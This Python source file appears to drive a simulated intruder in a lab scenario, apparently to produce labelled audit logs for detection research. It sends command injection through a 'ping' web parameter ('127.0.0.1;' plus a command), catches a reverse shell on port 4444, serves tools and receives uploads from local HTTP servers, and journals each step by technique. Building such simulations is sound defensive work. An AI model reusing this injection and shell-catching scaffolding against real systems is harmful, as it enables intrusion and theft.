"""The intruder of the story: another machine (a loopback address) that breaks in, step by step, and hurts nobody.

Every command is written to a journal with its time, step, technique and tactic. Who did what in the audit
log is decided later from process lineage; the journal only says which step was going on at that moment.
The tools are self-made and do nothing but what is written in `tools/`.
"""

from __future__ import annotations

import argparse
import http.client
import json
import math
import os
import random
import socket
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import story
import terminal

HERE = Path(__file__).resolve().parent
FROM, VICTIM, APP = story.INTRUDER, "10.20.7.7", 8080
FILES_PORT, SHELL_PORT, DROP_PORT = 8000, 4444, 8443


class Depot(BaseHTTPRequestHandler):
    """Hands out the tools, answers beacons and takes what is sent; all of it stays in memory and is dropped."""

    def do_GET(self) -> None:
        name = Path(urllib.parse.urlsplit(self.path).path).name
        path = HERE / "tools" / name
        body = path.read_bytes() if name and path.is_file() else b"ok\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        size = len(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(f"{size}\n".encode())

    def log_message(self, format: str, *args: object) -> None:
        pass


class Intruder:
    def __init__(self, journal: Path, seed: int, pace: float) -> None:
        self.journal = journal.open("a", encoding="utf-8", buffering=1)
        self.rng, self.pace = random.Random(f"{seed}:intruder"), pace
        self.shell: terminal.Terminal | None = None
        self.listener = socket.create_server((FROM, SHELL_PORT))
        for port in (FILES_PORT, DROP_PORT):
            threading.Thread(target=ThreadingHTTPServer((FROM, port), Depot).serve_forever, daemon=True).start()

    def think(self, middle: float) -> None:
        time.sleep(max(0.6, min(30.0, middle * math.exp(self.rng.gauss(0, 0.6)) * self.pace)))

    def note(self, **facts: Any) -> None:
        self.journal.write(json.dumps(facts) + "\n")

    def inject(self, command: str) -> str:
        """One request to the vulnerable page; the answer is what the injected command printed."""
        conn = http.client.HTTPConnection(VICTIM, APP, timeout=30, source_address=(FROM, 0))
        conn.request("GET", "/ping?host=" + urllib.parse.quote("127.0.0.1;" + command))
        held = conn.sock.dup()  # kept a moment longer, so that the fork log's companion finds who holds this port
        answer = conn.getresponse().read().decode("utf-8", "replace")
        conn.close()
        time.sleep(0.5)
        held.close()
        return answer

    def take_shell(self, command: str) -> str:
        answer = self.inject(command)
        self.listener.settimeout(30)
        conn, _ = self.listener.accept()
        conn.settimeout(None)
        self.shell = terminal.Terminal(lambda: conn.recv(65536), conn.sendall)
        self.shell.wait(20)
        return answer + self.shell.seen()

    def act(self, step: int, how: str, command: str, technique: str) -> None:
        start = time.time()
        if how == "request":
            shown = self.inject(command)
        elif how == "shell":
            shown = self.take_shell(command)
        elif how == "login":
            user, _, password = command.partition(" ")
            self.shell = terminal.over_ssh("/nonexistent", FROM, f"{user}@{VICTIM}", password=password)
            shown = self.shell.seen()
        else:
            assert self.shell is not None
            shown = self.shell.line(command, 60, story.PASSWORD)
        time.sleep(0.4)
        self.note(
            step=step, start=start, end=time.time(), how=how, command=command, technique=technique, shown=shown[-1500:]
        )

    def run(self, steps: list[story.Step], number: int) -> None:
        for step in steps:
            for how, command, technique in step.acts:
                self.act(number, how, command, technique)
                self.think(4.2)
            number += 1
            self.think(9)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--journal", type=Path, required=True)
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--start", type=float, required=True, help="real time of the first request")
    parser.add_argument("--again", type=float, required=True, help="real time at which the intruder comes back")
    parser.add_argument("--pace", type=float, default=1.0, help="factor on every pause")
    args = parser.parse_args()
    intruder = Intruder(args.journal, args.seed, args.pace)
    intruder.note(intruder=os.getpid(), cron=story.CRON_COMMAND)
    time.sleep(max(0.0, args.start - time.time()))
    intruder.run(story.MAIN, 1)
    time.sleep(max(0.0, args.again - time.time()))
    intruder.run(story.RETURN, len(story.MAIN) + 2)  # the number between is the cron job that fires by itself
    time.sleep(3600)  # the depot keeps answering the cron job until the recording ends this process


if __name__ == "__main__":
    main()
